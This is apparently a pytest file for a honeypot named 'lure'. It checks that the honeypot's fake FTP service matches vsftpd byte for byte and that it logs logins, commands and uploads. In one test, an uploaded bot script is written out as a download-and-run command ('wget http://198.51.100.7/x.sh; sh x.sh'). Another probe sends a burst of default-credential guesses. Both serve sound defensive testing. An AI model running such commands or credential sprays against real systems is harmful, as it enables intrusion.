"""FTP on the linux persona (issue 15): lure's port 21 side by side with
Debian 12's vsftpd 3.0.3 (the package, run here on a loopback port with the
stock /etc/vsftpd.conf's settings and write_enable=YES, as the persona;
seccomp_sandbox=NO for containers).
The same raw inputs go to both at once; the answers must be the same bytes,
end the same way (closed or open) and come as late (the failure delay):
nothing here is per instance before a login. The real daemon has no
account lure accepts (admin:admin; root's is refused by both), so what a
login sees is checked against captured bytes in test/emu/linux/ftp-*.t.
Score: passed / probes."""
import os
import shutil
import socket
import subprocess
import threading
from concurrent.futures import ThreadPoolExecutor

import pytest

import daemons
from conftest import get, persona
from ssh_common import nmap_dbs, nmap_port, talk

persona("linux")

@pytest.fixture(scope="module")
def vsftpd(tmp_path_factory):
    why = daemons.vsftpd_missing()
    if why:
        pytest.skip(why)
    with daemons.vsftpd(tmp_path_factory.mktemp("vsftpd")) as (_, port):
        yield port


FAIL = 4.0  # s: the failure delay (3-3.5 s), read through

PROBES = {
    "greeting": [],
    "quit": [b"QUIT\r\n"],
    "before_login": [b"SYST\r\n", b"HELP\r\n", b"NOOP\r\n", b"LIST\r\n",
                     b"PWD\r\n", b"STAT\r\n", b"PORT 127,0,0,1,4,1\r\n"],
    "feat_opts": [b"FEAT\r\n", b"OPTS UTF8 ON\r\n", b"opts utf8 on\r\n",
                  b"OPTS UTF8 OFF\r\n", b"OPTS\r\n"],
    "unknown": [b"XYZZY\r\n", b"AUTH TLS\r\n", b"PBSZ 0\r\n"],
    "pass_first": [b"PASS x\r\n"],
    "lowercase": [b"user root\r\n", b"quit\r\n"],
    "lf_only": [b"USER x\n", b"FEAT\n"],
    "blank_lines": [b"\r\n", b"\n", b"\r\r\n", b"NOOP\r\n"],
    "odd_lines": [b" \r\n", b"  USER a\r\n", b"\t\r\n", b"\x00\r\n",
                  b"US\x00ER a\r\n", b"FE\rAT\r\n", b"USER\r\n", b"PASS\r\n"],
    "pipelined": [b"FEAT\r\nSYST\r\nUSER a\r\nQUIT\r\nNOOP\r\n"],
    "split_line": [b"SY", b"ST\r", b"\n"],
    "garbage_first": [bytes(range(256))],
    "http_get": [b"GET / HTTP/1.0\r\n\r\n"],
    "tls_hello": [bytes.fromhex("16030100a5010000a10303") + bytes(32)],
    "no_newline": [b"QUIT"],
    "line_4094": [b"NOOP " + b"A" * 4089 + b"\r\n", b"NOOP\r\n"],
    "line_4095": [b"NOOP " + b"A" * 4090 + b"\r\n", b"NOOP\r\n"],
    "line_5000": [b"A" * 5000 + b"\r\n"],
    "unended_4096": [b"A" * 4096],
    "user_quit": [b"USER admin\r\n", b"QUIT\r\n"],
    "bad_pass": [b"USER admin\r\n", b"PASS wrong\r\n", FAIL, b"NOOP\r\n"],
    "root_right_pass": [b"USER root\r\n", b"PASS 123456\r\n", FAIL],
    "anonymous": [b"USER anonymous\r\n", b"PASS a@b.c\r\n", FAIL],
    "three_fails": [b"USER a\r\n", b"PASS b\r\n", FAIL, b"USER a\r\n",
                    b"PASS b\r\n", FAIL, b"USER root\r\n", b"PASS x\r\n",
                    FAIL],
    "user_user_pass": [b"USER a\r\n", b"USER b\r\n", b"SYST\r\n",
                       b"PASS x\r\n", FAIL, b"PASS x\r\n"],
    "typed_during_delay": [b"USER a\r\n", b"PASS b\r\nSYST\r\n", FAIL],
    "early_close": [b"USER a\r\n", b"PASS b\r\n"],
    # a bot's playbook as bots send it: common pairs in one segment, no
    # waiting for the answers (none of these logs in on either)
    "bot_burst": [b"USER root\r\nPASS root\r\nUSER admin\r\nPASS 1234\r\n"
                  b"USER ftp\r\nPASS ftp\r\nUSER test\r\nPASS test\r\n",
                  FAIL, FAIL, FAIL],
}


@pytest.mark.parametrize("name", sorted(PROBES))
def test_same_answer_as_vsftpd(vsftpd, sensor, name):
    steps = PROBES[name]
    got = {}

    def run(key, port):
        got[key] = talk(port, steps)

    threads = [threading.Thread(target=run, args=("real", vsftpd)),
               threading.Thread(target=run, args=("lure", sensor.port(21)))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    real, lure = got["real"], got["lure"]
    assert lure[0] == real[0]
    assert lure[1] == real[1]
    if FAIL in steps:  # the failure delay: both late (PAM's is random:
        # 3-3.5 s for a wrong password, down to 2.3 s seen for root)
        assert (lure[2] > 1.5) == (real[2] > 1.5), (lure[2], real[2])


def curl(port, user):
    return subprocess.run(
        ["curl", "-s", "-m", "20", "-u", user, f"ftp://127.0.0.1:{port}/"],
        capture_output=True)


def test_curl_wrong_password_like_vsftpd(vsftpd, sensor):
    real = curl(vsftpd, "root:123456")
    ours = curl(sensor.port(21), "root:123456")
    assert real.returncode == ours.returncode == 67  # login denied
    ev = sensor.wait_event("login", user__name="root",
                           lure__auth__password="123456")
    assert get(ev, "event.outcome") == "failure"


def test_login_and_commands_are_events(sensor):
    out, end, _ = talk(sensor.port(21), [
        b"USER admin\r\n", b"PASS admin\r\n", b"PWD\r\n", b"CWD /tmp\r\n",
        b"PORT 127,0,0,1,39,16\r\n", b"LIST\r\n", b"SITE CHMOD 777 x\r\n",
        b"QUIT\r\n"])
    assert out.split(b"\r\n")[2:9] == [
        b"230 Login successful.",
        b'257 "/home/admin" is the current directory',
        b"250 Directory successfully changed.",
        b"200 PORT command successful. Consider using PASV.",
        b"425 Failed to establish connection.",
        b"550 SITE CHMOD command failed.",
        b"221 Goodbye."]
    assert end == "eof"
    ok = sensor.wait_event("login", user__name="admin")
    assert get(ok, "event.outcome") == "success"
    assert get(ok, "lure.auth.password") == "admin"
    port = sensor.wait_event("command", lure__command="PORT 127,0,0,1,39,16")
    assert get(port, "user.name") == "admin"
    assert get(port, "lure.ftp.data_ip") == "127.0.0.1"
    assert get(port, "lure.ftp.data_port") == 39 * 256 + 16
    sensor.wait_event("command", lure__command="SITE CHMOD 777 x")


def test_port_to_elsewhere_is_refused_and_never_contacted(sensor):
    """FTP bounce: a PORT naming another host is refused as vsftpd refuses
    it (port_promiscuous=NO) and logged; nothing connects there."""
    srv = socket.socket()
    srv.bind(("127.0.0.2", 0))
    srv.listen(1)
    srv.settimeout(1.0)
    p = srv.getsockname()[1]
    out, _, _ = talk(sensor.port(21), [
        b"USER admin\r\n", b"PASS admin\r\n",
        b"PORT 127,0,0,2,%d,%d\r\n" % (p >> 8, p & 255), b"LIST\r\n",
        b"EPRT |1|127.0.0.2|%d|\r\n" % p, b"RETR x\r\n"])
    assert b"500 Illegal PORT command.\r\n425 Use PORT or PASV first.\r\n" \
        b"500 Illegal EPRT command.\r\n425 Use PORT or PASV first.\r\n" in out
    with pytest.raises(socket.timeout):
        srv.accept()
    ev = sensor.wait_event("command", lure__ftp__data_ip="127.0.0.2")
    assert get(ev, "lure.ftp.data_port") == p


def test_nmap_names_it_as_vsftpd(vsftpd, sensor):
    """nmap -sV and its scripts ftp-anon and ftp-syst report the same for
    both: vsftpd 3.0.3, and no script output (anonymous is refused; ftp-syst
    needs a login); with Debian 12's service database and, when
    LURE_NMAP_DB holds it (tools/nmapdb.sh), Debian 13's."""
    if not shutil.which("nmap"):
        pytest.skip("nmap not installed")
    def run(r):
        p = nmap_port(r[1], r[0], "--script", "ftp-anon,ftp-syst")
        svc = p.find("service")
        return ((svc.get("name"), svc.get("product"), svc.get("version"),
                 svc.get("ostype")),
                sorted((s.get("id"), s.get("output"))
                       for s in p.findall("script")))
    runs = [(d, port) for d in nmap_dbs()
            for port in (vsftpd, sensor.port(21))]
    with ThreadPoolExecutor(len(runs)) as ex:  # the runs at once
        got = list(ex.map(run, runs))
    for i in range(0, len(runs), 2):
        real, ours = got[i], got[i + 1]
        assert real[0] == ("ftp", "vsftpd", "3.0.3", "Unix"), runs[i][0]
        assert ours == real, runs[i][0]


def lftp(port, user, cmds):
    return subprocess.run(
        ["lftp", "-p", str(port), "-u", user, "-e",
         "set net:max-retries 1; set net:persist-retries 0; " + cmds
         + "; bye", "127.0.0.1"], capture_output=True, timeout=60)


def test_lftp_like_vsftpd(vsftpd, sensor):
    if not shutil.which("lftp"):
        pytest.skip("lftp not installed")
    real = lftp(vsftpd, "admin,wrong", "quote SYST")
    ours = lftp(sensor.port(21), "admin,wrong", "quote SYST")
    assert (ours.returncode, ours.stderr) == (real.returncode, real.stderr)
    assert b"530 Login incorrect." in ours.stderr
    ok = lftp(sensor.port(21), "admin,admin", "quote PWD; quote SYST")
    assert ok.returncode == 0, ok.stderr
    assert ok.stdout == (b'257 "/home/admin" is the current directory\n'
                         b"215 UNIX Type: L8\n")
    sensor.wait_event("command", user__name="admin", lure__command="SYST")


@pytest.fixture
def admin_account():
    """The account lure accepts (admin:admin, home /home/admin), made on
    this machine for the real vsftpd for one test, and removed after; a
    machine that has an admin of its own is left alone (skip). A lock file
    keeps the tests of parallel workers (pytest-xdist) from sharing it."""
    import fcntl
    if os.geteuid() != 0 or not shutil.which("useradd"):
        pytest.skip("needs root and useradd")
    with open("/tmp/lure-test-admin-account.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if subprocess.run(["id", "admin"],
                          capture_output=True).returncode == 0:
            pytest.skip("this machine has an admin account: not touched")
        subprocess.run(["useradd", "-m", "-d", "/home/admin", "-s",
                        "/bin/sh", "admin"], check=True)
        try:
            subprocess.run(["chpasswd"], input=b"admin:admin\n", check=True)
            yield "admin"
        finally:
            subprocess.run(["userdel", "-r", "admin"], capture_output=True)


def read_reply(f):
    """One FTP reply (its continuation lines too) from file f."""
    out = b""
    while True:
        line = f.readline()
        out += line
        if not line or line[3:4] == b" ":
            return out


def read_all(d):
    """What a data connection brings until its end."""
    got = b""
    while True:
        b = d.recv(65536)
        if not b:
            return got
        got += b


def transfers(port, steps):
    """Log in as admin, then for each (PASV|EPSV, command): open the
    passive data connection the reply names, send the command, read the
    data to its end and the replies. The control bytes (passive ports
    masked) and the data of each step."""
    import re
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    f = s.makefile("rb")

    def reply():
        return read_reply(f)
    log = [reply()]
    for c in (b"USER admin\r\n", b"PASS admin\r\n"):
        s.sendall(c)
        log.append(reply())
    data = []
    for mode, cmd in steps:
        s.sendall(mode + b"\r\n")
        r = reply()
        if mode == b"PASV":
            h = re.search(rb"\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)", r)
            dport = int(h.group(5)) * 256 + int(h.group(6))
            r = r.replace(h.group(0), b"(PORT)")
        else:
            h = re.search(rb"\(\|\|\|(\d+)\|\)", r)
            dport = int(h.group(1))
            r = r.replace(h.group(0), b"(PORT)")
        log.append(r)
        d = socket.create_connection(("127.0.0.1", dport), timeout=10)
        s.sendall(cmd + b"\r\n")
        first = reply()
        log.append(first)
        got = b""
        if first.startswith(b"150"):
            got = read_all(d)
            log.append(reply())
        d.close()
        data.append(got)
    s.sendall(b"QUIT\r\n")
    log.append(reply())
    s.close()
    return log, data


def test_transfers_like_vsftpd(vsftpd, admin_account, sensor):
    """PASV and EPSV data connections: LIST and NLST of the new home (empty:
    vsftpd hides its dot files), RETR of a file both have (/etc/hostname:
    its size and bytes are the machine's, masked), RETR of a missing file
    and of a relative path; the replies the same bytes on both."""
    steps = [(b"PASV", b"LIST"), (b"EPSV", b"NLST"),
             (b"PASV", b"RETR /etc/hostname"), (b"EPSV", b"RETR /nope"),
             (b"PASV", b"RETR hostname")]
    real, rdata = transfers(vsftpd, steps)
    ours, odata = transfers(sensor.port(21), steps)

    def mask(log):
        import re
        return [re.sub(rb"\(\d+ bytes\)", b"(N bytes)", x) for x in log]
    assert mask(ours) == mask(real)
    assert odata[0] == rdata[0] == b""  # the empty home, both
    assert odata[1] == rdata[1] == b""
    assert odata[2] == b"debian\n"  # the persona's; vsftpd's is this machine's
    ev = sensor.wait_event("command", lure__command="RETR /etc/hostname")
    assert get(ev, "user.name") == "admin"


def test_uploads_like_vsftpd(vsftpd, admin_account, sensor):
    """write_enable=YES: a bot's upload as bots send it (STOR a script,
    SITE CHMOD, LIST to look, then the clean-up), MKD/RMD, RNFR/RNTO,
    SIZE/MDTM, STOU, APPE, a STOR where admin may not write; the same
    replies and listings on both (dates masked), and lure's "upload"
    event with the script's SHA-256."""
    import hashlib
    import re
    script = b"#!/bin/sh\ncd /tmp; wget http://198.51.100.7/x.sh; sh x.sh\n"

    def session(port):
        s = socket.create_connection(("127.0.0.1", port), timeout=10)
        f = s.makefile("rb")
        log, data = [], []

        def reply():
            return read_reply(f)

        def cmd(c):
            s.sendall(c + b"\r\n")
            r = reply()
            log.append(re.sub(rb"\d{14}", b"MDTM", r))
            return r

        def xfer(c, payload=None):
            r = cmd(b"PASV")
            h = re.search(rb"\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)", r)
            log[-1] = b"227 PASV"
            d = socket.create_connection(
                ("127.0.0.1", int(h.group(5)) * 256 + int(h.group(6))),
                timeout=10)
            r = cmd(c)
            got = b""
            if r.startswith(b"150"):
                if payload is not None:
                    d.sendall(payload)
                    d.close()
                else:
                    got = read_all(d)
                log.append(reply())
            d.close()
            # the date, and admin's uid and gid (this machine's)
            got = re.sub(rb"\w{3} \d\d \d\d:\d\d", b"DATE", got)
            data.append(re.sub(rb"(?m)^(\S+ +\d+) \d+ +\d+ ", rb"\1 ID ID ",
                               got))

        reply()
        cmd(b"USER admin")
        cmd(b"PASS admin")
        xfer(b"STOR x.sh", script)
        cmd(b"SITE CHMOD 755 x.sh")
        xfer(b"LIST")
        xfer(b"NLST")
        cmd(b"SIZE x.sh")
        cmd(b"MDTM x.sh")
        xfer(b"APPE x.sh", b"echo done\n")
        cmd(b"SIZE x.sh")
        cmd(b"MKD d")
        cmd(b"MKD d")
        cmd(b"CWD d")
        cmd(b"PWD")
        cmd(b"CDUP")
        cmd(b"RNFR x.sh")
        cmd(b"RNTO y.sh")
        cmd(b"RNTO z.sh")
        cmd(b"SIZE x.sh")
        xfer(b"STOR /etc/x", b"x")
        xfer(b"STOR /tmp/lure-ftp-test.sh", b"x")
        cmd(b"DELE /tmp/lure-ftp-test.sh")
        cmd(b"DELE y.sh")
        cmd(b"DELE y.sh")
        cmd(b"RMD d")
        cmd(b"RMD d")
        cmd(b"SITE CHMOD 777")
        xfer(b"LIST")
        cmd(b"QUIT")
        s.close()
        return log, data

    real = session(vsftpd)
    ours = session(sensor.port(21))
    for k in (0, 1):  # the replies, then the data; the first difference
        diff = [(i, o, r) for i, (o, r) in enumerate(zip(ours[k], real[k]))
                if o != r]
        assert not diff and len(ours[k]) == len(real[k]), \
            (k, diff[:3], len(ours[k]), len(real[k]))
    assert real[1][1].endswith(b" x.sh\r\n")  # the upload was listed
    ev = sensor.wait_event("upload", file__name="x.sh")
    assert get(ev, "file.hash.sha256") == hashlib.sha256(script).hexdigest()
    assert get(ev, "file.size") == len(script)
    assert get(ev, "file.path") == "/home/admin/x.sh"
    assert get(ev, "user.name") == "admin"
